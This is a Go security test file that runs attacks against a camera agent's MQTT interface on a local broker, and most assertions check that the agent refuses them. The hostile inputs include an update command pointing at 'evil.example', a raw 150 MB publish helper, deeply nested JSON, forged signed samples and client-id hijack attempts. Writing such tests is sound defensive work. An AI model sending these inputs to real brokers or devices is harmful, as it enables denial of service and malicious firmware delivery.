package agent_test

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"math"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	paho "github.com/eclipse/paho.mqtt.golang"

	"github.com/whiskercam/whisker/agent"
	"github.com/whiskercam/whisker/agent/broker"
	"github.com/whiskercam/whisker/agent/config"
	"github.com/whiskercam/whisker/agent/protocol"
	"github.com/whiskercam/whisker/firmware/attest"
	"github.com/whiskercam/whisker/internal/testenv"
)

// The attacks of docs/security.md, tried on a running agent: once on a
// real mosquitto with the recipe of examples/mosquitto, once on the
// agent's embedded broker with users. The agent is camera porch of
// household home; garden and kitchen are cameras of the household (their
// keys are enrolled), stranger is not.

// enrolDevice makes a device key for device in stateDir, as `whisker keys
// gen --device` does, and enrols its public key in keysDir (if not "").
func enrolDevice(t *testing.T, stateDir, device, keysDir string) *attest.Signer {
	t.Helper()
	fw := filepath.Join(stateDir, "firmware")
	if err := os.MkdirAll(fw, 0o700); err != nil {
		t.Fatal(err)
	}
	priv, pub := filepath.Join(fw, "device.key"), filepath.Join(fw, "device.pub")
	if _, err := attest.GenerateDeviceKey(priv, pub, device); err != nil {
		t.Fatal(err)
	}
	if keysDir != "" {
		data, err := os.ReadFile(pub)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(keysDir, device+".pub"), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	s, err := attest.LoadSigner(priv)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// shared makes a shared sample payload signed by signer.
func shared(t *testing.T, signer *attest.Signer, origin string, id uint64, label, backbone string, feats []float32, jpeg []byte) []byte {
	t.Helper()
	p, err := protocol.EncodeShared(origin, id, label, backbone, time.Now(), feats, jpeg, signer.KeyID(), func(m []byte) ([]byte, error) {
		_, sig, err := signer.SignMessage(m)
		return sig, err
	})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// embeddingSize is the default backbone's feature length.
func embeddingSize(t *testing.T) int {
	t.Helper()
	data, err := os.ReadFile(testenv.BackboneManifest(t))
	if err != nil {
		t.Fatal(err)
	}
	var m struct {
		Embedding int `json:"embedding_size"`
	}
	if err := json.Unmarshal(data, &m); err != nil || m.Embedding == 0 {
		t.Fatalf("backbone manifest: %v", err)
	}
	return m.Embedding
}

func fixture(t *testing.T, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(testenv.Root(t), "camera/testdata/images", name))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// attackMaxPayload is the attacked agent's mqtt.max_payload: smaller than
// the default, so that payloads over it are quick to send.
const attackMaxPayload = 1 << 20

var passwords = map[string]string{"porch": "porch-pw", "garden": "garden-pw", "me": "me-pw", "homeassistant": "ha-pw"}

// attackWorld is a running agent (camera porch) and who talks to it.
type attackWorld struct {
	// t is the test the agent runs for: it is stopped when t ends.
	t    *testing.T
	kind string
	url  string
	cfg  config.Config
	a    *agent.Agent
	logs *logBuffer
	stop func()
	// op is the operator: it sends requests and reads whisker/porch/#.
	op                        *client
	garden, kitchen, stranger *attest.Signer
	identity                  string
	dim                       int
}

func startAttackWorld(t *testing.T, kind string) *attackWorld {
	dir := t.TempDir()
	w := &attackWorld{t: t, kind: kind, dim: embeddingSize(t)}
	var cfg config.Config
	switch kind {
	case "mosquitto":
		var lines []string
		for _, name := range []string{"porch", "garden", "me", "homeassistant"} {
			h, err := broker.HashPassword(passwords[name], 1000)
			if err != nil {
				t.Fatal(err)
			}
			lines = append(lines, name+":"+h)
		}
		pwFile := filepath.Join(dir, "whisker.passwd")
		os.WriteFile(pwFile, []byte(strings.Join(lines, "\n")+"\n"), 0o600)
		recipe, err := os.ReadFile(filepath.Join(testenv.Root(t), "examples/mosquitto/whisker.conf"))
		if err != nil {
			t.Fatal(err)
		}
		m := testenv.StartMosquittoListeners(t, func(port int, _ string) []string {
			var out []string
			for _, l := range strings.Split(string(recipe), "\n") {
				switch key, _, _ := strings.Cut(strings.TrimSpace(l), " "); {
				case key == "" || strings.HasPrefix(key, "#"):
				case key == "listener":
					out = append(out, fmt.Sprintf("listener %d 127.0.0.1", port))
				case key == "password_file":
					out = append(out, "password_file "+pwFile)
				case key == "acl_file":
					out = append(out, "acl_file "+filepath.Join(testenv.Root(t), "examples/mosquitto/whisker.acl"))
				case key == "max_packet_size":
					// In step with the agent's mqtt.max_payload below.
					out = append(out, fmt.Sprintf("max_packet_size %d", attackMaxPayload+broker.PacketOverhead))
				default:
					out = append(out, l)
				}
			}
			return out
		})
		w.url = m.URL()
		cfg = testConfig(t, w.url, "porch")
		cfg.MQTT.Username = "porch"
		cfg.MQTT.PasswordFile = filepath.Join(dir, "mqtt-password")
		os.WriteFile(cfg.MQTT.PasswordFile, []byte(passwords["porch"]+"\n"), 0o600)
		if err := config.ResolveSecrets(&cfg, ""); err != nil { // as Load does
			t.Fatal(err)
		}
	case "embedded":
		port := testenv.FreePort(t)
		w.url = fmt.Sprintf("tcp://127.0.0.1:%d", port)
		cfg = testConfig(t, "", "porch")
		cfg.MQTT.EmbeddedListen = fmt.Sprintf("127.0.0.1:%d", port)
		for _, u := range []broker.User{{Name: "garden", Role: "camera"}, {Name: "me", Role: "operator"}, {Name: "homeassistant", Role: "viewer"}} {
			h, err := broker.HashPassword(passwords[u.Name], 1000)
			if err != nil {
				t.Fatal(err)
			}
			u.PasswordHash = h
			cfg.MQTT.Embedded.Users = append(cfg.MQTT.Embedded.Users, u)
		}
	}
	cfg.Camera.MaxFPS = 1
	cfg.MQTT.MaxPayload = attackMaxPayload
	cfg.Web.MaxUpload = attackMaxPayload / 2
	keys := filepath.Join(dir, "household")
	os.MkdirAll(keys, 0o755)
	cfg.Fleet.Household, cfg.Fleet.HouseholdKeys, cfg.Fleet.MaxSamplesPerCamera = "home", keys, 3
	enrolDevice(t, cfg.StateDir, "porch", keys)
	w.garden = enrolDevice(t, filepath.Join(dir, "garden"), "garden", keys)
	w.kitchen = enrolDevice(t, filepath.Join(dir, "kitchen"), "kitchen", keys)
	w.stranger = enrolDevice(t, filepath.Join(dir, "stranger"), "stranger", "")
	w.cfg = cfg
	w.start()
	return w
}

// start starts the agent (again) and connects the operator.
func (w *attackWorld) start() {
	t := w.t
	w.logs = &logBuffer{}
	log := slog.New(slog.NewTextHandler(io.MultiWriter(testWriter{t}, w.logs), &slog.HandlerOptions{Level: slog.LevelDebug}))
	w.a, w.stop = startAgentLog(t, w.cfg, log)
	if w.op == nil {
		w.op = newClientAs(t, w.url, "whisker/porch/", "me", passwords["me"])
	}
	w.op.waitStatus("online")
	r := w.op.requestJSON(protocol.TopicCmd, map[string]string{"request_id": fmt.Sprintf("hello-%d", time.Now().UnixNano()), "cmd": "stats"})
	if !r.Ok {
		t.Fatalf("stats: %+v", r)
	}
	w.identity = r.Stats.Backbone
}

// dial connects as who (viewer, garden) without reconnecting.
func (w *attackWorld) dial(t *testing.T, user, clientID string) (paho.Client, error) {
	if clientID == "" {
		clientID = fmt.Sprintf("atk-%d", time.Now().UnixNano())
	}
	c := paho.NewClient(paho.NewClientOptions().AddBroker(w.url).SetClientID(clientID).SetUsername(user).SetPassword(passwords[user]).
		SetCleanSession(true).SetAutoReconnect(false).SetConnectTimeout(10 * time.Second))
	tok := c.Connect()
	if !tok.WaitTimeout(15*time.Second) || tok.Error() != nil {
		return nil, fmt.Errorf("connect as %s: %v", user, tok.Error())
	}
	t.Cleanup(func() { c.Disconnect(50) })
	return c, nil
}

func (w *attackWorld) waitLog(t *testing.T, what string, n int) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for w.logs.count(what) < n {
		if time.Now().After(deadline) {
			t.Fatalf("the agent logged %q %d times, not %d, within 30 s", what, w.logs.count(what), n)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// stats asks for the stats.
func (w *attackWorld) stats(t *testing.T) *protocol.Stats {
	t.Helper()
	r := w.op.requestJSON(protocol.TopicCmd, map[string]string{"request_id": fmt.Sprintf("stats-%d", time.Now().UnixNano()), "cmd": "stats"})
	if !r.Ok || r.Stats == nil {
		t.Fatalf("stats: %+v", r)
	}
	return r.Stats
}

func labelMap(ls []protocol.LabelCount) map[string]int {
	m := map[string]int{}
	for _, l := range ls {
		m[l.Label] = l.Samples
	}
	return m
}

// untilSentinel sends a labels command and returns the request ids of the
// label and command messages the operator saw on the agent's topics
// before it: what a broker delivered to the agent by then.
func (w *attackWorld) untilSentinel(t *testing.T) []string {
	t.Helper()
	id := fmt.Sprintf("sentinel-%d", time.Now().UnixNano())
	if r := w.op.requestJSON(protocol.TopicCmd, map[string]string{"request_id": id, "cmd": "labels"}); !r.Ok {
		t.Fatalf("sentinel: %+v", r)
	}
	var seen []string
	for {
		select {
		case m := <-w.op.requests:
			var probe struct {
				RequestID string `json:"request_id"`
			}
			json.Unmarshal(m.Payload(), &probe)
			if probe.RequestID == id {
				if n := w.op.requestsLost.Load(); n > 0 {
					t.Fatalf("the operator lost %d request messages", n)
				}
				return seen
			}
			seen = append(seen, probe.RequestID)
		case <-time.After(30 * time.Second):
			t.Fatal("the sentinel did not come back")
		}
	}
}

func TestAttacks(t *testing.T) {
	okJPEG := fixture(t, "ok.jpg")
	for _, kind := range []string{"mosquitto", "embedded"} {
		t.Run(kind, func(t *testing.T) {
			w := startAttackWorld(t, kind)
			photo := photoBase64(t, "chelsea.png")
			// Acknowledged labels, which nothing below may lose.
			for i, l := range []string{"Tigger", "Misty"} {
				r := w.op.requestJSON(protocol.TopicLabel, map[string]string{"request_id": fmt.Sprintf("base-%d", i), "label": l, "image": photo})
				if !r.Ok {
					t.Fatalf("label %s: %+v", l, r)
				}
			}
			before := w.stats(t)

			t.Run("viewer changes nothing", func(t *testing.T) {
				img := base64.StdEncoding.EncodeToString(okJPEG)
				for _, p := range []struct {
					topic, payload string
					retained       bool
				}{
					{"label", `{"request_id":"v-label","sighting_id":"x","label":"Evil"}`, false},
					{"label", `{"request_id":"v-image","image":"` + img + `","label":"Evil"}`, false},
					{"cmd", `{"request_id":"v-rename","cmd":"rename","label":"Tigger","to":"Evil"}`, false},
					{"cmd", `{"request_id":"v-forget","cmd":"forget","label":"Tigger"}`, false},
					{"cmd", `{"request_id":"v-threshold","cmd":"threshold","value":1}`, false},
					{"cmd", `{"request_id":"v-update","cmd":"update","url":"http://evil.example/x.wsk","sha256":"` + strings.Repeat("ab", 32) + `"}`, false},
					{"cmd", `{"request_id":"v-retained-update","cmd":"update","url":"http://evil.example/x.wsk","sha256":"` + strings.Repeat("ab", 32) + `"}`, true},
					{"cmd", `{"request_id":"v-snapshot","cmd":"snapshot","sighting_id":"latest"}`, false},
					{"cmd", `{"request_id":"v-retrain","cmd":"retrain"}`, false},
				} {
					for _, qos := range []byte{0, 1} {
						c, err := w.dial(t, "homeassistant", "")
						if err != nil {
							t.Fatal(err)
						}
						// The embedded broker closes a viewer's connection at a
						// refused QoS 1 publish; mosquitto acknowledges and drops it.
						c.Publish("whisker/porch/"+p.topic, qos, p.retained, p.payload).WaitTimeout(10 * time.Second)
						c.Subscribe("whisker/porch/status", 0, nil).WaitTimeout(10 * time.Second) // the broker has handled the publish
						c.Disconnect(50)
					}
				}
				for _, id := range w.untilSentinel(t) {
					if strings.HasPrefix(id, "v-") {
						t.Errorf("the broker delivered the viewer's request %s to the agent", id)
					}
				}
				if after := w.stats(t); fmt.Sprint(after.Labels) != fmt.Sprint(before.Labels) {
					t.Errorf("the viewer changed the labels: %v -> %v", before.Labels, after.Labels)
				}
				if n := w.logs.count("request_id=v-"); n != 0 {
					t.Errorf("the agent handled %d of the viewer's requests", n)
				}
			})

			t.Run("images of every format", func(t *testing.T) {
				entries, err := os.ReadDir(filepath.Join(testenv.Root(t), "camera/testdata/images"))
				if err != nil {
					t.Fatal(err)
				}
				accepted := map[string]bool{"ok.jpg": true, "ok.png": true, "ok.bmp": true, "ok-lossy.webp": true}
				n := 0
				for _, e := range entries {
					name := e.Name()
					if strings.HasPrefix(name, "ok") && !accepted[name] {
						continue // accepted like ok.*; each costs a backbone run
					}
					n++
					id := fmt.Sprintf("img-%d", n)
					r := w.op.request(protocol.TopicLabel, []byte(`{"request_id":"`+id+`","label":"Probe","image":"`+base64.StdEncoding.EncodeToString(fixture(t, name))+`"}`), id)
					if r.Ok != accepted[name] {
						t.Errorf("%s: ok %v (%s), want %v", name, r.Ok, r.Error, accepted[name])
					}
					if !r.Ok && !strings.Contains(r.Error, "image cannot be read") && !(name == "empty.bin" && strings.Contains(r.Error, "give sighting_id")) {
						t.Errorf("%s: refused with %q", name, r.Error)
					}
				}
				t.Logf("%d images sent, %d accepted", n, len(accepted))
			})

			t.Run("oversized and malformed payloads", func(t *testing.T) {
				big := `{"request_id":"big","sighting_id":"x","label":"` + strings.Repeat("x", w.cfg.MQTT.MaxPayload) + `"}`
				r := w.op.request(protocol.TopicLabel, []byte(big), "big")
				if r.Ok || !strings.Contains(r.Error, "the limit is") {
					t.Errorf("a payload over mqtt.max_payload: %+v", r)
				}
				nested := `{"request_id":"nested","label":` + strings.Repeat("[", 100000) + `}`
				if r := w.op.request(protocol.TopicLabel, []byte(nested), "nested"); r.Ok || r.RequestID != "nested" {
					t.Errorf("deeply nested JSON: %+v", r)
				}
				huge := strings.Repeat("A", (w.cfg.MQTT.MaxPayload-200)/4*4)
				if r := w.op.request(protocol.TopicLabel, []byte(`{"request_id":"b64","label":"X","image":"`+huge+`"}`), "b64"); r.Ok {
					t.Errorf("a payload's worth of base64 zeros as an image: %+v", r)
				}
			})

			t.Run("150 MB publish", func(t *testing.T) {
				conn, err := net.Dial("tcp", strings.TrimPrefix(w.url, "tcp://"))
				if err != nil {
					t.Fatal(err)
				}
				defer conn.Close()
				if err := mqttConnect(conn, "big-"+kind, "garden", passwords["garden"]); err != nil {
					t.Fatal(err)
				}
				const size = 150 << 20
				written, err := mqttHugePublish(conn, "whisker/household/home/samples", size)
				t.Logf("the broker closed the connection after %d of %d bytes (%v)", written, size, err)
				if err == nil || written >= size/2 {
					t.Fatalf("the broker took %d bytes of a %d-byte publish", written, size)
				}
				w.stats(t)
				if n := w.a.Bus().Reconnects(); n != 0 {
					t.Errorf("the agent lost its connection %d times", n)
				}
			})

			t.Run("camera's client id", func(t *testing.T) {
				for _, user := range []string{"homeassistant", "garden", "me"} {
					for _, id := range []string{"whisker-porch", "porch"} {
						if c, err := w.dial(t, user, id); err == nil {
							c.Disconnect(50)
						} else {
							t.Logf("%s with client id %s: %v", user, id, err)
						}
					}
				}
				// mosquitto gives the operator's connections the operator's
				// user name as client id: the test's operator is pushed off
				// and comes back, the agent is not.
				w.stats(t)
				if n := w.a.Bus().Reconnects(); n != 0 {
					t.Errorf("a client with the camera's client id pushed the agent off the broker %d times", n)
				}
				select {
				case s := <-w.op.status:
					if s.State == "offline" {
						t.Error("the agent's will (offline) was published")
					}
				default:
				}
			})

			t.Run("flood", func(t *testing.T) {
				base := runtime.NumGoroutine()
				viewer, err := w.dial(t, "homeassistant", "")
				if err != nil {
					t.Fatal(err)
				}
				for i := range 1000 {
					viewer.Publish(fmt.Sprintf("whisker/porch/flood/%d", i), 0, false, "x")
				}
				for i := range 2000 {
					w.op.c.Publish("whisker/porch/label", 0, false, fmt.Sprintf(`{"request_id":"flood-%d","sighting_id":"gone","label":"Tigger"}`, i))
				}
				// The agent still answers, and what the flood took is given back.
				w.stats(t)
				deadline := time.Now().Add(60 * time.Second)
				for runtime.NumGoroutine() > base+100 {
					if time.Now().After(deadline) {
						t.Fatalf("goroutines: %d before the flood, %d a minute after", base, runtime.NumGoroutine())
					}
					time.Sleep(100 * time.Millisecond)
				}
				for len(w.op.requests) > 0 {
					<-w.op.requests
				}
				w.op.requestsLost.Store(0)
			})

			t.Run("shared samples", func(t *testing.T) {
				garden, err := w.dial(t, "garden", "")
				if err != nil {
					t.Fatal(err)
				}
				send := func(p []byte) {
					if tok := garden.Publish("whisker/household/home/samples", 1, false, p); !tok.WaitTimeout(15*time.Second) || tok.Error() != nil {
						t.Fatalf("publish: %v", tok.Error())
					}
				}
				feats := make([]float32, w.dim)
				for i := range feats {
					feats[i] = float32(i%7) / 7
				}
				unsigned, _ := protocol.EncodeShared("garden", 1, "Fake", w.identity, time.Now(), feats, okJPEG, "", nil)
				nan := append([]float32(nil), feats...)
				nan[3] = float32(math.NaN())
				refusals := []struct {
					name    string
					payload []byte
				}{
					{"unsigned", unsigned},
					{"signed by a camera not enrolled", shared(t, w.stranger, "stranger", 1, "Fake", w.identity, feats, okJPEG)},
					{"another camera's name", shared(t, w.garden, "kitchen", 1, "Fake", w.identity, feats, okJPEG)},
					{"one value", shared(t, w.garden, "garden", 2, "Fake", w.identity, feats[:1], okJPEG)},
					{"not finite", shared(t, w.garden, "garden", 3, "Fake", w.identity, nan, okJPEG)},
					{"a PNG", shared(t, w.garden, "garden", 4, "Fake", w.identity, feats, fixture(t, "ok.png"))},
					{"a JPEG of 30000x30000", shared(t, w.garden, "garden", 5, "Fake", w.identity, feats, fixture(t, "jpeg-fill-30000.jpg"))},
					{"label look-alike", []byte(strings.Replace(string(shared(t, w.garden, "garden", 6, "Tigger", w.identity, feats, okJPEG)), `"Tigger"`, `"\u0422igger"`, 1))},
				}
				for i, r := range refusals {
					send(r.payload)
					w.waitLog(t, "shared sample refused", i+1)
				}
				send(shared(t, w.garden, "garden", 7, "Fake", "other-backbone@1", feats, okJPEG))
				w.waitLog(t, "shared sample of another backbone ignored", 1)
				// Three samples from garden are kept (fleet.max_samples_per_camera),
				// the same one twice is stored once, the fourth is refused.
				for i := range 3 {
					send(shared(t, w.garden, "garden", uint64(10+i), "Garden cat", w.identity, feats, okJPEG))
				}
				send(shared(t, w.garden, "garden", 10, "Garden cat", w.identity, feats, okJPEG))
				w.waitLog(t, "sample shared by the household stored", 3)
				w.waitLog(t, "shared sample already stored", 1)
				send(shared(t, w.garden, "garden", 20, "Garden cat", w.identity, feats, okJPEG))
				w.waitLog(t, "camera that shared the sample has its maximum", 1)
				labels := labelMap(w.stats(t).Labels)
				if labels["Garden cat"] != 3 || labels["Fake"] != 0 || labels["Tigger"] != labelMap(before.Labels)["Tigger"] {
					t.Errorf("labels after the shared samples: %v", labels)
				}
				// A viewer or an operator cannot share.
				for _, user := range []string{"homeassistant", "me"} {
					c, err := w.dial(t, user, "")
					if err != nil {
						t.Fatal(err)
					}
					c.Publish("whisker/household/home/samples", 0, false, shared(t, w.garden, "garden", 30, "Fake", w.identity, feats, okJPEG)).WaitTimeout(10 * time.Second)
					c.Subscribe("whisker/porch/status", 0, nil).WaitTimeout(10 * time.Second)
					c.Disconnect(50)
				}
				send(shared(t, w.garden, "garden", 11, "Garden cat", w.identity, feats, okJPEG)) // a duplicate, as a sentinel
				w.waitLog(t, "shared sample already stored", 2)
				if n := w.logs.count("sample shared by the household stored"); n != 3 {
					t.Errorf("%d shared samples stored, want 3", n)
				}
			})

			t.Run("look-alike labels", func(t *testing.T) {
				for i, l := range []string{"Ｔｉｇｇｅｒ", "TIGGER", "tigger", "𝐓𝐢𝐠𝐠𝐞𝐫"} {
					r := w.op.requestJSON(protocol.TopicLabel, map[string]string{"request_id": fmt.Sprintf("alike-%d", i), "label": l, "image": photo})
					if !r.Ok || r.Label != "Tigger" {
						t.Errorf("%q: %+v, want it stored as Tigger", l, r)
					}
				}
				r := w.op.requestJSON(protocol.TopicLabel, map[string]string{"request_id": "alike-cyrillic", "label": "\u0422igger", "image": photo})
				if r.Ok || !strings.Contains(r.Error, "mixes letters") {
					t.Errorf("a Cyrillic look-alike: %+v", r)
				}
				labels := labelMap(w.stats(t).Labels)
				if labels["Tigger"] != labelMap(before.Labels)["Tigger"]+4 {
					t.Errorf("labels: %v", labels)
				}
			})

			t.Run("retained requests", func(t *testing.T) {
				if tok := w.op.c.Publish("whisker/porch/cmd", 1, true, `{"request_id":"retained-1","cmd":"labels"}`); !tok.WaitTimeout(10*time.Second) || tok.Error() != nil {
					t.Fatal(tok.Error())
				}
				// Acted on once, when published...
				deadline := time.After(30 * time.Second)
			wait:
				for {
					select {
					case r := <-w.op.results:
						if r.RequestID == "retained-1" {
							break wait
						}
					case <-deadline:
						t.Fatal("the retained request was not answered when published")
					}
				}
				if kind == "embedded" {
					// ...and not kept by the embedded broker.
					c, err := w.dial(t, "me", "")
					if err != nil {
						t.Fatal(err)
					}
					got := make(chan paho.Message, 8)
					c.Subscribe("whisker/porch/cmd", 1, func(_ paho.Client, m paho.Message) { got <- m }).WaitTimeout(10 * time.Second)
					c.Subscribe("whisker/porch/status", 1, func(_ paho.Client, m paho.Message) { got <- m }).WaitTimeout(10 * time.Second)
					if m := <-got; m.Topic() != "whisker/porch/status" {
						t.Errorf("the embedded broker kept a retained request: %s", m.Payload())
					}
					return
				}
				// ...and mosquitto's copy, delivered at every (re)start, is ignored.
				w.stop()
				w.start()
				w.waitLog(t, "retained message ignored", 1)
				w.op.c.Publish("whisker/porch/cmd", 1, true, "").WaitTimeout(10 * time.Second)
			})

			// Nothing acknowledged was lost, and the agent still answers.
			after := labelMap(w.stats(t).Labels)
			for l, n := range labelMap(before.Labels) {
				if after[l] < n {
					t.Errorf("label %s had %d samples, now %d", l, n, after[l])
				}
			}
		})
	}
}

// mqttConnect sends an MQTT 3.1.1 CONNECT with a user name and password
// and reads the CONNACK.
func mqttConnect(conn net.Conn, clientID, user, password string) error {
	var body []byte
	str := func(s string) { body = append(body, byte(len(s)>>8), byte(len(s))); body = append(body, s...) }
	str("MQTT")
	body = append(body, 4, 0x80|0x40|0x02, 0, 30)
	str(clientID)
	str(user)
	str(password)
	pkt := append([]byte{0x10}, mqttLength(len(body))...)
	conn.SetDeadline(time.Now().Add(15 * time.Second))
	defer conn.SetDeadline(time.Time{})
	if _, err := conn.Write(append(pkt, body...)); err != nil {
		return err
	}
	ack := make([]byte, 4)
	if _, err := io.ReadFull(conn, ack); err != nil {
		return fmt.Errorf("no CONNACK: %w", err)
	}
	if ack[0] != 0x20 || ack[3] != 0 {
		return fmt.Errorf("connection refused: %x", ack)
	}
	return nil
}

func mqttLength(n int) []byte {
	var out []byte
	for {
		b := byte(n % 128)
		if n /= 128; n > 0 {
			b |= 0x80
		}
		out = append(out, b)
		if n == 0 {
			return out
		}
	}
}

// mqttHugePublish sends the header of a QoS 0 publish of size bytes, then
// zeros, until the broker closes the connection or all is sent.
func mqttHugePublish(conn net.Conn, topic string, size int) (int, error) {
	hdr := append([]byte{byte(len(topic) >> 8), byte(len(topic))}, topic...)
	pkt := append(append([]byte{0x30}, mqttLength(len(hdr)+size)...), hdr...)
	conn.SetWriteDeadline(time.Now().Add(60 * time.Second))
	if _, err := conn.Write(pkt); err != nil {
		return 0, err
	}
	chunk := make([]byte, 64<<10)
	written := 0
	for written < size {
		n, err := conn.Write(chunk[:min(len(chunk), size-written)])
		written += n
		if err != nil {
			return written, err
		}
	}
	return written, nil
}

// TestDiskTroubleIsShownAndNothingUnstoredIsAcknowledged runs the agent
// with a disk reserve larger than any disk: every write is refused for
// space, as on a full disk.
func TestDiskTroubleIsShownAndNothingUnstoredIsAcknowledged(t *testing.T) {
	mosq := testenv.StartMosquitto(t)
	dir := t.TempDir()
	cfg := testConfig(t, mosq.URL(), "full")
	cfg.Camera.MaxFPS = 2
	keys := filepath.Join(dir, "keys")
	os.MkdirAll(keys, 0o755)
	cfg.Fleet.Household, cfg.Fleet.HouseholdKeys = "home", keys
	enrolDevice(t, cfg.StateDir, "full", keys)
	garden := enrolDevice(t, filepath.Join(dir, "garden"), "garden", keys)
	cfg.Learner.DiskReserveBytes = 1 << 50
	cl := newClient(t, mosq.URL(), "whisker/full/")
	logged := func() (*slog.Logger, *logBuffer) {
		logs := &logBuffer{}
		return slog.New(slog.NewTextHandler(io.MultiWriter(testWriter{t}, logs), &slog.HandlerOptions{Level: slog.LevelDebug})), logs
	}
	log, logs := logged()
	a, stop := startAgentLog(t, cfg, log)
	cl.waitStatus("online")
	// A label of a sighting and one of a photograph: refused for space,
	// with the disk's trouble in the answer.
	s := cl.nextSighting(60 * time.Second)
	for _, req := range []map[string]string{
		{"request_id": "full-1", "sighting_id": s.ID, "label": "Tigger"},
		{"request_id": "full-2", "image": photoBase64(t, "dog.jpg"), "label": "Misty"},
	} {
		r := cl.requestJSON(protocol.TopicLabel, req)
		if r.Ok || !strings.Contains(r.Error, "not enough free disk space") || r.Disk == nil || r.Disk.OK {
			t.Fatalf("label on a full disk: %+v (disk %+v)", r, r.Disk)
		}
	}
	// /healthz and the status say so.
	resp, err := http.Get("http://" + a.HTTPAddr() + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	var h agent.Health
	json.NewDecoder(resp.Body).Decode(&h)
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable || h.Disk == nil || h.Disk.OK || !strings.Contains(strings.Join(h.Problems, "; "), "disk") {
		t.Errorf("/healthz on a full disk: %d %+v", resp.StatusCode, h)
	}
	deadline := time.After(30 * time.Second)
	for st := (protocol.Status{}); st.Disk == nil || st.Disk.OK; {
		select {
		case st = <-cl.status:
		case <-deadline:
			t.Fatal("no status with the disk's trouble")
		}
	}
	// A shared sample that cannot be stored is not acknowledged...
	r := cl.requestJSON(protocol.TopicCmd, map[string]string{"request_id": "full-stats", "cmd": "stats"})
	feats := make([]float32, embeddingSize(t))
	p := shared(t, garden, "garden", 1, "Rex", r.Stats.Backbone, feats, fixture(t, "ok.jpg"))
	if tok := cl.c.Publish("whisker/household/home/samples", 1, false, p); !tok.WaitTimeout(10*time.Second) || tok.Error() != nil {
		t.Fatal(tok.Error())
	}
	deadlineLog := time.Now().Add(30 * time.Second)
	for logs.count("shared sample not stored; the broker keeps it") == 0 {
		if time.Now().After(deadlineLog) {
			t.Fatal("the shared sample was not tried")
		}
		time.Sleep(20 * time.Millisecond)
	}
	// ...so the broker delivers it again when the agent is back with room.
	stop()
	cfg.Learner.DiskReserveBytes = 0
	log, logs = logged()
	startAgentLog(t, cfg, log)
	deadlineLog = time.Now().Add(60 * time.Second)
	for logs.count("sample shared by the household stored") == 0 {
		if time.Now().After(deadlineLog) {
			t.Fatal("the shared sample refused for space was not delivered again")
		}
		time.Sleep(20 * time.Millisecond)
	}
	r = cl.requestJSON(protocol.TopicCmd, map[string]string{"request_id": "room-labels", "cmd": "labels"})
	if labelMap(r.Labels)["Rex"] != 1 || labelMap(r.Labels)["Tigger"] != 0 {
		t.Fatalf("labels once there is room: %+v", r.Labels)
	}
}

// TestMosquittoRecipeMatchesTheDefaults: the recipe's packet limit is the
// agent's default mqtt.max_payload plus what a packet carries besides.
func TestMosquittoRecipeMatchesTheDefaults(t *testing.T) {
	recipe, err := os.ReadFile(filepath.Join(testenv.Root(t), "examples/mosquitto/whisker.conf"))
	if err != nil {
		t.Fatal(err)
	}
	want := fmt.Sprintf("max_packet_size %d", config.Default().MQTT.MaxPayload+broker.PacketOverhead)
	if !strings.Contains(string(recipe), "\n"+want+"\n") {
		t.Errorf("examples/mosquitto/whisker.conf has no line %q", want)
	}
}
